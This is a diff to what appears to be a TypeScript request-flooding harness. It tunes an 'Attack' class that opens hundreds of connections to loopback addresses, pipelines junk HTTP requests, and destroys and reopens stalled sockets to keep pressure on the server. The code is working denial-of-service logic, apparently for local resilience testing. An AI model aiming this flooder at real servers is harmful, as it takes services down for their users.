@@ -9,13 +9,15 @@ process.on("message", (order: HostileOrder) => {
 })
 process.on("disconnect", () => process.exit())
 
-const FLOODING = 64
+const FLOODING = 256
 /** Slow connections that were closed are made anew, so many in 10 ms. */
 const ANEW = 20
 /** Bytes that wait in this process for a connection that takes no more. */
 const FULL = 64 * 1024
-/** Requests that one connection may have unanswered. */
-const AHEAD = 50
+/** Requests that one connection may have unanswered: with more, most would be lost where the first one closes it. */
+const AHEAD = 4
+/** Milliseconds without an answer after which another connection is made. */
+const STUCK = 500
 
 let attack: Attack | undefined
 
@@ -66,15 +68,20 @@ class Attack {
       const at = this.#turn++ % FLOODING
       this.#flooding[at] ??= this.#flooder(at)
       const { open, socket } = this.#flooding[at]!
-      if (open.waiting >= AHEAD || socket.writableLength > FULL) continue
+      if (open.waiting >= AHEAD || socket.writableLength > FULL) {
+        // The server takes what follows for a body that never ends.
+        if (performance.now() > open.since + STUCK) socket.destroy()
+        continue
+      }
       open.waiting++
+      open.since = performance.now()
       socket.write(this.#rubbish[this.#sent++ % this.#rubbish.length]!)
     }
   }
 
   #flooder(at: number): Flooder {
     const socket = this.#connect(`127.0.2.${1 + (at % 16)}`)
-    const open = { waiting: 0 }
+    const open = { waiting: 0, since: 0 }
     socket.on("data", (chunk: Buffer) => {
       for (const [, status = ""] of chunk.toString("latin1").matchAll(/HTTP\/1\.1 (\d{3})/g)) {
         this.#answers[status] = (this.#answers[status] ?? 0) + 1
@@ -109,7 +116,7 @@ class Attack {
 
 interface Flooder {
   readonly socket: Socket
-  readonly open: { waiting: number }
+  readonly open: { waiting: number; since: number }
 }
 
 const trickles = new WeakMap<Socket, string>()
